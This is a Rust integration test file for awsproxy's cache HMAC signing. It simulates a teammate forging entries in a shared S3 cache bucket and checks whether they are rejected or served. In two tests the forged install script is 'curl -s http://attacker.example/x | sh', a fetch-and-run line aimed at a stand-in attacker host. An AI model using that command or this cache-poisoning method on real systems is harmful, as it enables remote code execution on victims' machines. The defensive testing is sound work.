//! Attack tests of `[cache] hmac_key`: a teammate with write access to the
//! shared S3 cache bucket (but not to the key) replaces entries directly in the
//! bucket, the way anyone holding `s3:PutObject` on it can: new body, and
//! metadata whose length and sha256 match the new body.
//!
//! Each test runs real `awsproxy serve` instances (forward proxy) on one bucket
//! of the in-process fake S3, in front of an origin on 127.0.0.1, and talks to
//! them as proxy clients. With the key, a forged entry is a miss (the client
//! gets the origin's answer) or, where the forgery is only found at the end of
//! a streamed body, a failed transfer, never a complete forged body; without
//! the key the forged body is served, which is what SECURITY.md says.

use std::io::{Read, Write};
use std::time::Duration;

use base64::Engine as _;
use sha2::{Digest, Sha256};

use crate::support::TestContext;
use crate::support::daemon::Daemon;
use crate::support::fakes::FakeS3;
use crate::support::origin::{Origin, Reply};

const BUCKET: &str = "team-cache";
const PREFIX: &str = "awsproxy/";
/// What `head -c 32 /dev/urandom | base64` writes.
const TEAM_KEY: &str = "q3J0cGl4ZWxzLWFyZS1ub3QtYS1rZXktYnV0LXRoaXM=\n";

/// `awsproxy serve` (forward proxy only) on the shared bucket, with `cache`
/// lines added to `[cache]`; the proxy's URL.
fn teammate(s3: &FakeS3, cache: &str, key_file: Option<&str>) -> (TestContext, Daemon, String) {
    let config = format!(
        "[metrics]\nlisten = \"127.0.0.1:0\"\n[proxy]\nlisten = \"127.0.0.1:0\"\nallow_destinations = [\"127.0.0.1\"]\n\
         [cache]\nstore = \"s3\"\n{cache}\n[cache.s3]\nbucket = \"{BUCKET}\"\nprefix = \"{PREFIX}\"\n\
         region = \"us-east-1\"\nendpoint = \"{}\"\nforce_path_style = true\n",
        s3.endpoint()
    );
    let ctx = TestContext::new().config(&config).fake_aws_keys();
    if let Some(contents) = key_file {
        ctx.write(&ctx.home().join(".config/awsproxy/cache.key"), contents);
    }
    let mut cmd = ctx.command();
    cmd.arg("serve");
    let mut daemon = Daemon::spawn(cmd);
    let proxy = daemon.url_of("forward proxy");
    (ctx, daemon, proxy)
}

/// A teammate with the team's key in `~/.config/awsproxy/cache.key`.
fn with_key(s3: &FakeS3) -> (TestContext, Daemon, String) {
    teammate(
        s3,
        "hmac_key = \"${file:~/.config/awsproxy/cache.key}\"",
        Some(TEAM_KEY),
    )
}

/// One response read off a raw connection to the proxy.
#[derive(Debug)]
struct Got {
    status: u16,
    /// Lowercased header block.
    head: String,
    body: Vec<u8>,
    /// The connection failed (reset) before the response ended.
    failed: bool,
}

impl Got {
    /// The body is as long as its `Content-Length` said.
    fn complete(&self) -> bool {
        !self.failed
            && self
                .head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .is_some_and(|n| n == self.body.len())
    }

    fn cache_status(&self) -> &str {
        self.head
            .lines()
            .find_map(|l| l.strip_prefix("cache-status:"))
            .map_or("", str::trim)
    }

    fn is_hit(&self) -> bool {
        self.cache_status().starts_with("awsproxy; hit")
    }
}

/// `GET url` through the forward proxy at `proxy`, read until the proxy closes.
fn get(proxy: &str, url: &str) -> Got {
    let host = url
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap_or_default();
    let mut s = std::net::TcpStream::connect(proxy.trim_start_matches("http://")).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    write!(
        s,
        "GET {url} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"
    )
    .unwrap();
    let mut raw = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    let failed = loop {
        match s.read(&mut buf) {
            Ok(0) => break false,
            Ok(n) => raw.extend_from_slice(&buf[..n]),
            Err(_) => break true,
        }
    };
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a response head");
    let head = String::from_utf8_lossy(&raw[..split]).to_ascii_lowercase();
    Got {
        status: head
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0),
        head,
        body: raw[split + 4..].to_vec(),
        failed,
    }
}

fn sha(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// A body unique to `seed`.
fn body_of(seed: u8, len: usize) -> Vec<u8> {
    (0..len)
        .map(|i| {
            (i as u32)
                .wrapping_mul(31)
                .wrapping_add(u32::from(seed) * 7919) as u8
        })
        .collect()
}

/// What the attacker does to an entry.
enum Forgery<'a> {
    /// A new body, with metadata rewritten to match it (`body_len`, `sha256`);
    /// `keep_tag` leaves the entry's signature field as it was, otherwise it
    /// is dropped.
    Rewrite { body: &'a [u8], keep_tag: bool },
    /// A new body of the same length under the entry's own (genuine) metadata.
    BodyOnly(&'a [u8]),
}

/// The attacker: holds write access to the bucket (the fake's open mode lets
/// any S3 client in) and knows the entry format from the source. Finds the
/// entry stored for the URL ending in `path` and replaces it.
fn forge(rt: &tokio::runtime::Runtime, s3: &FakeS3, path: &str, forgery: Forgery<'_>) {
    let client = s3.client();
    rt.block_on(async {
        let list = client
            .list_objects_v2()
            .bucket(BUCKET)
            .prefix(PREFIX)
            .send()
            .await
            .unwrap();
        for object in list.contents() {
            let name = object.key().unwrap();
            if name.ends_with(".meta") {
                continue;
            }
            let head = client
                .head_object()
                .bucket(BUCKET)
                .key(name)
                .send()
                .await
                .unwrap();
            let value = head.metadata().unwrap()["awsproxy-meta"].clone();
            let json = base64::engine::general_purpose::STANDARD
                .decode(&value)
                .expect("inline metadata");
            let mut meta: serde_json::Value = serde_json::from_slice(&json).unwrap();
            if !meta["url"].as_str().unwrap().ends_with(path) {
                continue;
            }
            let (body, value) = match forgery {
                Forgery::Rewrite { body, keep_tag } => {
                    meta["body_len"] = body.len().into();
                    meta["sha256"] = sha(body).into();
                    if !keep_tag {
                        meta.as_object_mut().unwrap().remove("hmac");
                    }
                    let json = serde_json::to_vec(&meta).unwrap();
                    (body, base64::engine::general_purpose::STANDARD.encode(json))
                }
                Forgery::BodyOnly(body) => {
                    assert_eq!(meta["body_len"].as_u64(), Some(body.len() as u64));
                    (body, value)
                }
            };
            client
                .put_object()
                .bucket(BUCKET)
                .key(name)
                .metadata("awsproxy-meta", value)
                .body(body.to_vec().into())
                .send()
                .await
                .unwrap();
            return;
        }
        panic!("no entry for {path} in the bucket");
    });
}

/// Entries (objects other than sidecars) in the bucket.
fn entries(s3: &FakeS3) -> usize {
    let dir = s3.root().join(BUCKET).join(PREFIX.trim_end_matches('/'));
    std::fs::read_dir(dir).map_or(0, |d| {
        d.flatten()
            .filter(|e| !e.file_name().to_string_lossy().ends_with(".meta"))
            .count()
    })
}

/// Polls (up to 10 s) until `cond` holds: a fill commits just after its
/// client has the last byte, and a rejected entry is removed in the background.
#[track_caller]
fn eventually(what: &str, cond: impl Fn() -> bool) {
    for _ in 0..500 {
        if cond() {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("timed out waiting until {what}");
}

#[test]
fn a_forged_entry_in_the_shared_bucket_never_reaches_a_teammate_with_the_key() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = rt.block_on(FakeS3::start());
    s3.create_bucket(BUCKET);
    let origin = Origin::start();
    let script = b"#!/bin/sh\necho installing the real tool\n".to_vec();
    let notes = b"release notes: nothing to see\n".to_vec();
    let big = body_of(1, 6 << 20);
    for (path, body) in [
        ("/install.sh", &script),
        ("/notes.txt", &notes),
        ("/big.tar", &big),
    ] {
        origin.set(
            path,
            Reply::ok(body.clone()).header("cache-control", "public, max-age=86400"),
        );
    }

    // Normal use: teammate A fills the shared cache, teammate B (another host,
    // same key) gets hits for all three.
    let (_a_ctx, mut a, proxy_a) = with_key(&s3);
    let (_b_ctx, _b, proxy_b) = with_key(&s3);
    for path in ["/install.sh", "/notes.txt", "/big.tar"] {
        let got = get(&proxy_a, &origin.url(path));
        assert!(got.complete() && got.status == 200, "{}", got.head);
    }
    eventually("A's three entries are in the bucket", || entries(&s3) == 3);
    for (path, body) in [
        ("/install.sh", &script),
        ("/notes.txt", &notes),
        ("/big.tar", &big),
    ] {
        let got = get(&proxy_b, &origin.url(path));
        assert!(got.is_hit(), "{path}: {}", got.head);
        assert!(got.complete() && sha(&got.body) == sha(body), "{path}");
        assert_eq!(origin.count(path), 1, "{path}");
    }

    // The attacker swaps the script (keeping the entry's signature field, with
    // a sha256 that matches the new body), the notes (signature dropped), and
    // the big file's body under its own genuine metadata.
    let evil = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n".to_vec();
    forge(
        &rt,
        &s3,
        "/install.sh",
        Forgery::Rewrite {
            body: &evil,
            keep_tag: true,
        },
    );
    forge(
        &rt,
        &s3,
        "/notes.txt",
        Forgery::Rewrite {
            body: b"forged notes\n",
            keep_tag: false,
        },
    );
    let forged_big = body_of(2, big.len());
    forge(&rt, &s3, "/big.tar", Forgery::BodyOnly(&forged_big));

    // A (which has never read these entries back) gets the origin's answer
    // for the small ones: a miss, never the forged body.
    let got = get(&proxy_a, &origin.url("/install.sh"));
    assert!(!got.is_hit(), "{}", got.head);
    assert!(got.complete() && got.body == script, "{}", got.head);
    assert_eq!(origin.count("/install.sh"), 2);
    a.wait_for("signature");
    let got = get(&proxy_a, &origin.url("/notes.txt"));
    assert!(!got.is_hit(), "{}", got.head);
    assert!(got.complete() && got.body == notes, "{}", got.head);
    assert_eq!(origin.count("/notes.txt"), 2);

    // The big one streams: the forgery shows only at its end, so the client's
    // transfer fails before the last bytes, and the entry is removed.
    let got = get(&proxy_a, &origin.url("/big.tar"));
    assert!(!got.complete(), "a forged body must never look complete");
    assert_ne!(sha(&got.body), sha(&forged_big));
    assert!(got.body.len() < forged_big.len());
    eventually("the forged big entry is removed", || entries(&s3) == 2);
    let got = get(&proxy_a, &origin.url("/big.tar"));
    assert!(!got.is_hit(), "{}", got.head);
    assert!(
        got.complete() && sha(&got.body) == sha(&big),
        "{}",
        got.head
    );
    assert_eq!(origin.count("/big.tar"), 2);

    // A's refills replaced the forged objects: B gets genuine hits again.
    eventually("A's refills are in the bucket", || entries(&s3) == 3);
    std::thread::sleep(awsproxy::cache::hot::RECHECK + Duration::from_millis(200));
    for (path, body) in [
        ("/install.sh", &script),
        ("/notes.txt", &notes),
        ("/big.tar", &big),
    ] {
        let got = get(&proxy_b, &origin.url(path));
        assert!(got.complete() && sha(&got.body) == sha(body), "{path}");
    }
}

#[test]
fn without_a_key_a_forged_entry_is_served_as_security_md_says() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = rt.block_on(FakeS3::start());
    s3.create_bucket(BUCKET);
    let origin = Origin::start();
    let script = b"#!/bin/sh\necho installing the real tool\n".to_vec();
    origin.set(
        "/install.sh",
        Reply::ok(script.clone()).header("cache-control", "public, max-age=86400"),
    );
    let (_ctx, _d, proxy) = teammate(&s3, "", None);
    assert_eq!(get(&proxy, &origin.url("/install.sh")).body, script);
    eventually("the entry is in the bucket", || entries(&s3) == 1);

    let evil = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n".to_vec();
    forge(
        &rt,
        &s3,
        "/install.sh",
        Forgery::Rewrite {
            body: &evil,
            keep_tag: false,
        },
    );
    let got = get(&proxy, &origin.url("/install.sh"));
    assert!(got.is_hit(), "{}", got.head);
    assert_eq!(got.body, evil);
    assert_eq!(origin.count("/install.sh"), 1);
}

#[test]
fn a_key_shorter_than_32_bytes_is_refused_naming_the_file_line_and_key() {
    let ctx = TestContext::new()
        .config("[cache]\nstore = \"disk\"\nhmac_key = \"${file:~/.config/awsproxy/cache.key}\"\n");
    ctx.write(
        &ctx.home().join(".config/awsproxy/cache.key"),
        "too-short-a-key\n",
    );
    let out = ctx.run(&["config", "check"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("config.toml:3:") && out.stderr.contains("cache.hmac_key"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("32"), "{}", out.stderr);
    assert!(!out.stderr.contains("too-short-a-key"), "{}", out.stderr);
}

#[test]
fn doctor_warns_about_a_shared_bucket_without_a_key() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = rt.block_on(FakeS3::start());
    s3.create_bucket(BUCKET);
    let doctor = |cache: &str, key_file: Option<&str>| {
        let config = format!(
            "[cache]\nstore = \"s3\"\n{cache}\n[cache.s3]\nbucket = \"{BUCKET}\"\n\
             region = \"us-east-1\"\nendpoint = \"{}\"\nforce_path_style = true\n",
            s3.endpoint()
        );
        let ctx = TestContext::new().config(&config).fake_aws_keys();
        if let Some(contents) = key_file {
            ctx.write(&ctx.home().join(".config/awsproxy/cache.key"), contents);
        }
        let out = ctx.run(&["doctor", "--json"]);
        let all: Vec<serde_json::Value> = serde_json::from_str(&out.stdout).unwrap();
        all.into_iter().find(|f| f["check"] == "cache.hmac_key")
    };
    let f = doctor("", None).expect("a warning about the unsigned bucket");
    assert_eq!(f["outcome"], "warn", "{f}");
    assert!(f["summary"].as_str().unwrap().contains(BUCKET), "{f}");
    assert!(f["hint"].as_str().unwrap().contains("hmac_key"), "{f}");
    let signed = doctor(
        "hmac_key = \"${file:~/.config/awsproxy/cache.key}\"",
        Some(TEAM_KEY),
    );
    assert!(signed.is_none(), "{signed:?}");
}
